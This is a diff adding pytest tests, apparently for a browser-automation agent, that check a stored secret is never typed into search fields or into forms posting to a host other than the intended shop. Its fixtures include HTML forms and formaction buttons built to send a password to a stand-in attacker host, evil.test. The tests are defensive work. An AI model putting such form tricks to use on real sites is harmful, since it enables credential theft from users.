@@ -208,6 +208,46 @@ async def test_what_is_typed_depends_on_the_host_and_stays_a_template(session, s
     assert (await session.observe()).elements[0].value == "••••••"
 
 
+OTHERS = {
+    "another site": "<form action='https://evil.test/take'><input aria-label=Password></form>",
+    "a button for another site": "<form><input aria-label=Password>"
+    "<button formaction='//evil.test/take'>Go</button></form>",
+    "a button outside": "<form id=f><input aria-label=Password></form>"
+    "<button form=f formaction='https://evil.test/'>Go</button>",
+    "hidden properties": "<form action='https://evil.test/'><input name=action><input name=elements>"
+    "<input aria-label=Password></form>",
+}
+
+
+@pytest.mark.parametrize("html", OTHERS.values(), ids=OTHERS)
+async def test_a_secret_goes_into_no_form_that_sends_it_to_a_site_it_is_not_meant_for(session, site, html):
+    await session.act(Navigate(url=site.page("/", html)), lambda text, host: text)
+
+    def fill(text, host):
+        if host != "shop.test":
+            raise ActionFailed(f"not on {host}")
+        return "hunter2hunter2"
+
+    with pytest.raises(ActionFailed, match=r"not on evil\.test"):
+        await session.act(Type(target=Target(label="Password"), text="{{secret:pw}}"), fill)
+    await session.act(Type(target=Target(label="Password"), text="no secret"), fill)
+    assert (await session.observe()).elements[-1].value != "••••••"
+
+
+SEARCHES = [
+    "<input type=search aria-label=Find>",
+    "<form role=search><input aria-label=Find></form>",
+    "<search><input aria-label=Find></search>",
+]
+
+
+@pytest.mark.parametrize("html", SEARCHES)
+async def test_a_secret_is_not_searched_for(session, site, html):
+    await session.act(Navigate(url=site.page("/", html)), lambda text, host: text)
+    with pytest.raises(ActionFailed, match="search field"):
+        await session.act(Type(target=Target(label="Find"), text="a {{secret:pw}}"), lambda text, host: "x")
+
+
 async def test_a_native_list_is_chosen_from_by_label(on, session):
     await on(
         "<select aria-label=Size onchange='document.title = value'><option value=s>Small<option value=m>Medium</select>",
